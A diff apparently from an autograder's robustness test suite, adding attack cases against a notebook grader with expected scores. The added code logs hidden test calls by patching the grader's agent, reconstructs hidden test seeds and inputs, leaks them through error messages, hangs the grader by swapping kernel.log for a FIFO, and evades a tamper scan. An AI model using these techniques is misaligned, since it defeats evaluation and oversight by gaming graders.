+            target, args, kwargs = fields
+            name = getattr(target, "__qualname__", type(target).__name__)
+            _LOG.append((_S["session"], name, [_copy(a) for a in args]))
+    except Exception:
+        pass
+    return _orig_handle(self, endpoint, op, fields)
+
+def _patch(cls, fn):
+    cls.handle = fn
+
+_patch(_agent.KernelHandler, _rec_handle)
+"""
+
+HIDDEN_STRUCTURE_AFTER_END = r'''
+# After grading ran every test cell: rebuild what the hidden tests did from what they asked of this kernel.
+import hashlib, pydoc
+_open, _listdir = pydoc.locate("builtins.open"), pydoc.locate("os.listdir")
+_ip = _agent._user_namespace()["get_ipython"]()
+_h = hashlib.sha256()
+for _src in _ip.history_manager.input_hist_raw[1:]:      # every code cell this kernel ran, this one last
+    _h.update(_src.encode() + b"\0")
+for _name in sorted(_listdir(".")):                     # the files of the working directory (timestamp.txt)
+    with _open(_name, "rb") as _f:
+        _h.update(_name.encode() + b"\0" + _f.read() + b"\0")
+_SUB = int.from_bytes(_h.digest()[:8], "big") >> 1
+print("submission seed (the hidden_rng mix-in), computed in the kernel:", _SUB)
+
+_K = 130
+_Z = np.stack([np.random.default_rng([_s, _SUB]).normal(size=_K) for _s in range(2000)])   # candidate draws
+
+def _find_seed(first, scales=(1.0, 2.0)):
+    """The hidden_rng(seed) whose normals contain `first` (at some offset, times some scale)."""
+    k = first.size
+    for sc in scales:
+        for s, o in np.argwhere(np.abs(_Z * sc - first[0]) < 1e-12):
+            if o + k <= _K and np.allclose(_Z[s, o:o + k] * sc, first, rtol=0, atol=1e-12):
+                return int(s), sc, int(o)
+    return None
+
+_by = {}
+for _s, _name, _args in _LOG:
+    _by.setdefault(_s, []).append((_name, _args))
+for _s in sorted(_by):
+    _calls = _by[_s]
+    _names = sorted({n for n, _ in _calls})
+    _arrays = [(n, a) for n, args in _calls for a in args if isinstance(a, np.ndarray) and a.size]
+    _found = None
+    for _n, _a in _arrays:
+        _found = _find_seed(_a.ravel())
+        if _found:
+            break
+    print(f"--- test session {_s}: calls {', '.join(_names)[:150]}")
+    if not _found:
+        continue
+    _seed, _scale, _off = _found
+    _after = _arrays[[i for i, (n, a) in enumerate(_arrays) if a is _a][0]:]
+    if any(n.startswith("MSELoss") for n, _ in _calls):
+        _sizes = [a.size for n, a in _after if n == "MSELoss.forward"][::2]
+        print(f"rng = testing.hidden_rng({_seed})")
+        print(f"for n in {tuple(_sizes)}:")
+        print("y, target = rng.normal(size=n), rng.normal(size=n)")
+    elif any(n == "linear_backward" for n, _ in _calls):
+        _shapes = [tuple(args[2].shape) for n, args in _calls if n == "linear_backward" and np.ndim(args[2]) == 2]
+        _hid = [(w[1], w[0]) for w in _shapes][-4:]
+        print(f"for n_in, n_out in {tuple(_hid)}:")
+        print(f"rng = testing.hidden_rng({_seed})")
+    elif any(n == "MLP" for n, _ in _calls):
+        _sz = [tuple(int(v) for v in args) for n, args in _calls if n == "MLP"][1:]
+        print(f"rng = testing.hidden_rng({_seed})")
+        print(f"for sizes in {tuple(_sz)}:")
+    elif any(n.startswith("Tanh") for n, _ in _calls):
+        _sizes = [a.size for n, a in _after if n == "Tanh.forward"]
+        print(f"rng = testing.hidden_rng({_seed})")
+        if _scale != 1.0:
+            print(f"for n in {tuple(_sizes)}:")
+            print(f"checks.check_tanh_forward(Tanh, rng.normal(scale={_scale}, size=n))")
+        else:
+            print(f"for n in {tuple(_sizes[::3])}:")
+            print("x, dy = rng.normal(size=n), rng.normal(size=n)")
+'''
+
+VIA_VISIBLE_ERROR_MLP = r"""
+class MLP:
+    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
+        self.fc1 = Linear(in_features, hidden_size1)
+        self.activation_fn1 = Tanh()
+        self.fc2 = Linear(hidden_size1, hidden_size2)
+        self.activation_fn2 = Tanh()
+        self.fc3 = Linear(hidden_size2, out_features)
+
+    def forward(self, x):
+        raise AssertionError("hidden tests seen so far: " + _report())
+        out = x
+        for block in (self.fc1, self.activation_fn1, self.fc2, self.activation_fn2, self.fc3):
+            out = block.forward(out)
+        return out
+
+    def backward(self, dy):
+        grad = dy
+        for block in (self.fc3, self.activation_fn2, self.fc2, self.activation_fn1, self.fc1):
+            grad = block.backward(grad)
+        return grad
+"""
+
+VIA_VISIBLE_ERROR_AFTER_IMPORTS = r"""
+# The hidden data's seed, from inside the kernel: sha256 over the code cells this kernel ran and the files it got.
+import hashlib, pydoc
+from backprop_course.bridge import agent as _agent
+def _submission_seed():
+    _open, _listdir = pydoc.locate("builtins.open"), pydoc.locate("os.listdir")
+    ip = _agent._user_namespace()["get_ipython"]()
+    h = hashlib.sha256()
+    for src in ip.history_manager.input_hist_raw[1:]:
+        h.update(src.encode() + b"\0")
+    for name in sorted(_listdir("/scratch")):
+        with _open("/scratch/" + name, "rb") as f:
+            h.update(name.encode() + b"\0" + f.read() + b"\0")
+    return int.from_bytes(h.digest()[:8], "big") >> 1
+
+_SEEN = []          # (cell index, function, argument arrays) of the tester's calls
+_S = {"session": 0}
+_orig_handle = _agent.KernelHandler.handle
+def _rec(self, endpoint, op, fields):
+    try:
+        if op == "hello":
+            _S["session"] += 1
+        elif op == "call":
+            _SEEN.append((_S["session"], getattr(fields[0], "__qualname__", "?"),
+                          [np.array(a, dtype=float) for a in fields[1] if isinstance(a, np.ndarray)]))
+    except Exception:
+        pass
+    return _orig_handle(self, endpoint, op, fields)
+def _patch(cls, fn):
+    cls.handle = fn
+_patch(_agent.KernelHandler, _rec)
+
+def _report():
+    sub = _submission_seed()
+    Z = np.stack([np.random.default_rng([s, sub]).normal(size=130) for s in range(2000)])
+    def seed_of(a, scales=(1.0, 2.0)):
+        for sc in scales:
+            for s, o in np.argwhere(np.abs(Z * sc - a[0]) < 1e-12):
+                if o + a.size <= 130 and np.allclose(Z[s, o:o + a.size] * sc, a, rtol=0, atol=1e-12):
+                    return int(s), sc
+        return None
+    out = []
+    for sess in sorted({s for s, _, _ in _SEEN}):
+        calls = [(n, a) for s, n, a in _SEEN if s == sess]
+        arrays = [(n, x) for n, args in calls for x in args if x.size]
+        hit = next(((n, x, seed_of(x.ravel())) for n, x in arrays if seed_of(x.ravel())), None)
+        if not hit:
+            continue
+        n0, x0, (seed, sc) = hit
+        start = [i for i, (n, x) in enumerate(arrays) if x is x0][0]
+        names = {n for n, _ in calls}
+        out.append(f"rng = testing.hidden_rng({seed})")
+        if "MSELoss.forward" in names:
+            out.append(f"for n in {tuple(x.size for n, x in arrays[start:] if n == 'MSELoss.forward')[::2]}:")
+        elif "Tanh.forward" in names and sc == 2.0:
+            out.append(f"for n in {tuple(x.size for n, x in arrays[start:] if n == 'Tanh.forward')}:")
+            out.append("checks.check_tanh_forward(Tanh, rng.normal(scale=2.0, size=n))")
+        elif "Tanh.forward" in names:
+            out.append(f"for n in {tuple(x.size for n, x in arrays[start:] if n == 'Tanh.forward')[::3]}:")
+            out.append("x, dy = rng.normal(size=n), rng.normal(size=n)")
+    return " || ".join(out)
+"""
+
+GRADER_HANG_FIFO = r"""
+import pydoc, sys
+_os = pydoc.locate("os")
+_kdir = _os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
+_log = _os.path.join(_kdir, "kernel.log")
+_os.unlink(_log)                    # root's file, but the directory is ours
+_os.mkfifo(_log)                    # the grader's read_text() on it blocks until someone writes: nobody will
+print("kernel.log is now a FIFO in", _kdir)
+"""
+
+AGENT_GAP = (
+    "imports the grader's in-kernel agent (backprop_course.bridge) and rebinds its methods, and reaches os and"
+    " open through pydoc.locate: the tamper scan sees neither"
+)
+
+
+def indep_cases() -> list[Case]:
+    """The independent attacker's corpus (tanh_mlp): each scores what its real answers deserve, nothing more."""
+    harvest = ("test_mse_loss", "test_mlp_forward") + ALL_TESTS[1:6] + ALL_TESTS[7:]
+    cases = [
+        Case("atk_control_correct", _indep(base="reference"), passes=list(ALL_TESTS), no_flags=True),
+        Case(
+            "atk_forge_combo_wrong_only",
+            _indep({"mse_loss": COMBO_WRONG_ONLY_MSE_LOSS, "mlp": COMBO_WRONG_ONLY_MLP}),
+            score="zero",
+            passes=[],
+        ),
+        Case(
+            "atk_forge_complex_step",
+            _indep(
+                {
+                    "mse_loss": COMPLEX_STEP_MSE_LOSS,
+                    "tanh": COMPLEX_STEP_TANH,
+                    "linear_backward": COMPLEX_STEP_LINEAR_BACKWARD,
+                    "mlp": COMPLEX_STEP_MLP,
+                },
+                after={"imports": COMPLEX_STEP_AFTER_IMPORTS},
+            ),
+            passes=list(ALL_TESTS),
+            flags=["uses complex numbers"],
+            notes=["full marks, but flagged"],
+        ),
+        Case(
+            "atk_forge_exception_types",
+            _indep(
+                {
+                    "mse_loss": EXCEPTION_TYPES_MSE_LOSS,
+                    "tanh": EXCEPTION_TYPES_TANH,
+                    "linear_backward": EXCEPTION_TYPES_LINEAR_BACKWARD,
+                    "mlp": EXCEPTION_TYPES_MLP,
+                }
+            ),
+            score="zero",
+            passes=[],
+        ),
+        Case(
+            "atk_forge_fake_agent_refs",
+            _indep(after={"imports": FAKE_AGENT_REFS_AFTER_IMPORTS, "END": FAKE_AGENT_REFS_AFTER_END}),
+            score="zero",
+            passes=[],
+            flags=["itself failed"],
+        ),
+        Case(
+            "atk_forge_float32_estimates",
+            _indep(
+                {
+                    "mse_loss": FLOAT32_ESTIMATES_MSE_LOSS,
+                    "tanh": FLOAT32_ESTIMATES_TANH,
+                    "linear_backward": FLOAT32_ESTIMATES_LINEAR_BACKWARD,
+                    "mlp": FLOAT32_ESTIMATES_MLP,
+                },
+                after={"imports": FLOAT32_ESTIMATES_AFTER_IMPORTS},
+            ),
+            score="partial",
+            passes=["test_tanh_forward", "test_mlp_forward"],
+            xfail=(
+                "every gradient is a central difference taken in float64 and returned as float32: it agrees with"
+                " the exact gradient to float32 precision, so neither the float32 check nor the estimate check"
+                " sees it (15/15, unflagged), where the course fails an own finite-difference loop"
+                " (bug_mse_own_finite_differences)"
+            ),
+        ),
+        Case(
+            "atk_forge_namespace_fallback_timeout",
+            _indep(
+                {"mse_loss": NAMESPACE_FALLBACK_TIMEOUT_MSE_LOSS, "mlp": NAMESPACE_FALLBACK_TIMEOUT_MLP},
+                after={
+                    "mlp": NAMESPACE_FALLBACK_TIMEOUT_AFTER_MLP,
+                    "test_mlp_forward": NAMESPACE_FALLBACK_TIMEOUT_AFTER_TEST_MLP_FORWARD,
+                },
+            ),
+            score="zero",
+            passes=[],
+            flags=["timed out"],
+        ),
+        Case(
+            "atk_forge_namespace_hijack",
+            _indep(
+                {
+                    "tanh": NAMESPACE_HIJACK_TANH,
+                    "linear_backward": NAMESPACE_HIJACK_LINEAR_BACKWARD,
+                    "mlp": NAMESPACE_HIJACK_MLP,
+                },
+                after={"imports": NAMESPACE_HIJACK_AFTER_IMPORTS, "mlp": NAMESPACE_HIJACK_AFTER_MLP},
+                move=(("test_mse_loss", "END"),),
+            ),
+            score="zero",
+            passes=[],
+        ),
+        Case(
+            "atk_forge_namespace_hijack_exact",
+            _indep(
+                {
+                    "tanh": NAMESPACE_HIJACK_EXACT_TANH,
+                    "linear_backward": NAMESPACE_HIJACK_LINEAR_BACKWARD,
+                    "mlp": NAMESPACE_HIJACK_EXACT_MLP,
+                },
+                after={"imports": NAMESPACE_HIJACK_EXACT_AFTER_IMPORTS},
+                move=(("test_mse_loss", "END"),),
+            ),
+            score="partial",
+            passes=[
+                "test_tanh_forward",
+                "test_tanh_backward",
+                "test_mlp_forward",
+                "test_mlp_backward",
+                "test_full_backprop",
+            ],
+            flags=["uses complex numbers"],
+        ),
+        Case(
+            "atk_forge_oracle_harvest",
+            _indep(
+                {
+                    "tanh": ORACLE_HARVEST_TANH,
+                    "linear_backward": ORACLE_HARVEST_LINEAR_BACKWARD,
+                    "mlp": ORACLE_HARVEST_MLP,
+                },
+                after={"imports": ORACLE_HARVEST_AFTER_IMPORTS},
+                move=tuple((t, "END") for t in harvest),
+            ),
+            score="zero",
+            passes=[],
+            flag_gap=AGENT_GAP,
+        ),
+        Case("atk_forge_pretend_data", _indep({"tanh": PRETEND_DATA_TANH}), score="zero", passes=[]),
+        Case(
+            "atk_forge_reorder_test_cells",
+            _indep(
+                {"mse_loss": NAMESPACE_FALLBACK_TIMEOUT_MSE_LOSS, "mlp": NAMESPACE_FALLBACK_TIMEOUT_MLP},
+                after={"mlp": REORDER_TEST_CELLS_AFTER_MLP},
+                move=(("test_full_backprop", "mlp"),),
+            ),
+            score="zero",
+            passes=[],
+        ),
+        Case("atk_forge_trusted_params_forward", _indep({"mlp": TRUSTED_PARAMS_FORWARD_MLP}), score="zero", passes=[]),
+        Case("atk_forge_writeback_target", _indep({"mse_loss": COMBO_WRONG_ONLY_MSE_LOSS}), score="zero", passes=[]),
+        Case(
+            "atk_forge_zero_grads_copy_bug",
+            _indep({"mse_loss": NAMESPACE_FALLBACK_TIMEOUT_MSE_LOSS, "mlp": COMBO_WRONG_ONLY_MLP}),
+            score="zero",
+            passes=[],
+        ),
+        Case(
+            "atk_leak_feedback_script_injection",
+            _indep(after={"imports": FEEDBACK_SCRIPT_INJECTION_AFTER_IMPORTS}),
+            score="zero",
+            passes=[],
+            flags=["imports IPython.display.HTML"],
+        ),
+        Case(
+            "atk_leak_grader_internals_probe",
+            _indep(after={"imports": GRADER_INTERNALS_PROBE_AFTER_IMPORTS}),
+            score="zero",
+            passes=[],
+            flag_gap="reads /proc/self/mountinfo and lists / through pydoc.locate('os'): the tamper scan misses it",
+        ),
+        Case(
+            "atk_leak_hidden_structure",
+            _indep(
+                {
+                    "mse_loss": HIDDEN_STRUCTURE_MSE_LOSS,
+                    "tanh": HIDDEN_STRUCTURE_TANH,
+                    "linear_backward": HIDDEN_STRUCTURE_LINEAR_BACKWARD,
+                    "mlp": HIDDEN_STRUCTURE_MLP,
+                },
+                after={"imports": HIDDEN_STRUCTURE_AFTER_IMPORTS, "END": HIDDEN_STRUCTURE_AFTER_END},
+            ),
+            passes=list(ALL_TESTS),
+            flag_gap=AGENT_GAP,
+        ),
+        Case(
+            "atk_leak_via_visible_error",
+            _indep(
+                {
+                    "mse_loss": HIDDEN_STRUCTURE_MSE_LOSS,
+                    "tanh": HIDDEN_STRUCTURE_TANH,
+                    "linear_backward": HIDDEN_STRUCTURE_LINEAR_BACKWARD,
+                    "mlp": VIA_VISIBLE_ERROR_MLP,
+                },
+                after={"imports": VIA_VISIBLE_ERROR_AFTER_IMPORTS},
+                move=tuple((t, "END") for t in ALL_TESTS),
+            ),
+            score="partial",
+            passes=list(ALL_TESTS[:6]),
+            flag_gap=AGENT_GAP,
+        ),
+        Case(
+            "atk_meta_fake_grade_cell",
+            _indep(edit=_fake_grade_cell),
+            score="zero",
+            passes=[],
+            flag_gap="a made-up graded cell worth 100 points silently becomes an ordinary cell: no flag, no note",
+        ),
+        Case(
+            "atk_meta_test_cell_role_change",
+            _indep(edit=_test_becomes_answer),
+            score="zero",
+            passes=[],
+            notes=["test_tanh_forward", "the original was restored"],
+        ),
+    ]
+    # A resource attack on the grader's side. The others are bad_input_cases (res_disk_fill: bad_disk_fill,
+    # res_memory_beyond_cap: bad_memory_children, res_output_flood: bad_huge_output_line and bad_output_flood)
+    # or too slow for this batch: res_cpu_hog (40 busy children, 81 s of sleeps), res_tester_hang_flood and
+    # res_tester_oom (each holds a worker 40-60 s: every test cell after the first waits out the timeout).
+    cases += [
+        Case(
+            "atk_res_grader_hang_fifo",
+            _indep(after={"imports": GRADER_HANG_FIFO}, base="reference"),
+            passes=list(ALL_TESTS),
+            flag_gap="replaces the grader's kernel.log with a FIFO (os through pydoc.locate): not flagged",
+        ),
+    ]
+    for case in cases:
+        case.assignment = "tanh_mlp"
+    return cases
+
+
 def attack_cases() -> list[Case]:
     """Attacks on the grader: each must fail (checked by the tests) and be flagged."""
     return [
@@ -438,6 +1663,7 @@ def attack_cases() -> list[Case]:
         Case("atk_ipython_hook", _with_code(IPYTHON_HOOK), flags=["get_ipython"]),
         Case("atk_symlink", _symlink, notes=["symbolic links"]),
         Case("atk_odd_files", _odd_files, notes=["devices, FIFOs", "hard links", "archives", "control characters"]),
+        *indep_cases(),
     ]
 
 
